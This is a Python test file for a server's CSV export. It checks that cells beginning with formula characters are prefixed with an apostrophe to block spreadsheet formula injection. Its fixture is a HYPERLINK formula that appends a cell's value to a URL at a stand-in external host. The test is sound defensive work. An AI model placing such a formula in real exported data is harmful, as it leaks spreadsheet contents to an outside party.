"""Lines of values, as `spalloc-server usage` and `audit` write them for programs."""

import csv
from collections.abc import Iterable
from types import ModuleType

import pytest

from spalloc_server.core.audit import Entry
from spalloc_server.core.usage import By, Usage, UsageQuestion, Used
from spalloc_server.operation import audit_commands, usage_commands
from spalloc_server.operation.control.protocol import Line
from spalloc_server.scripts import audit, usage
from spalloc_server.scripts.looking_back import csv_of

FORMULA = '=HYPERLINK("https://elsewhere.example?"&A2,"more")'
USED = Usage(
    UsageQuestion(0.0, 9.0, By.OWNER), [Used(FORMULA, 1, 3.0), Used("jane", 1, 2.0)], Used(None, 2, 5.0)
)
DONE = Entry(5.0, "destroy-job", None, None, "10.0.0.1", 7, None, FORMULA, None)


@pytest.mark.parametrize(
    ("command", "lines", "column"),
    [
        (usage, usage_commands.lines_of(USED), "owner"),
        (audit, audit_commands.lines_of([DONE]), "detail"),
    ],
)
def test_what_somebody_else_has_written_is_no_formula_in_a_table(
    command: ModuleType,
    lines: Iterable[Line],
    column: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setattr(command, "answer_of", lambda *_: list(lines))
    assert command.main(["--csv"]) == 0
    rows = list(csv.DictReader(capsys.readouterr().out.splitlines()))
    assert rows[0][column] == f"'{FORMULA}"
    assert len(rows) == (2 if command is usage else 1)


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_all_that_begins_a_formula_is_marked(first: str) -> None:
    assert csv_of([[f"{first}1"]]).lstrip('"').startswith("'")


def test_everything_else_stays_as_it_is() -> None:
    assert csv_of([("a", "b"), ("x=1", -1.5), (None, 'a "b", c')]) == 'a,b\nx=1,-1.5\n,"a ""b"", c"\n'
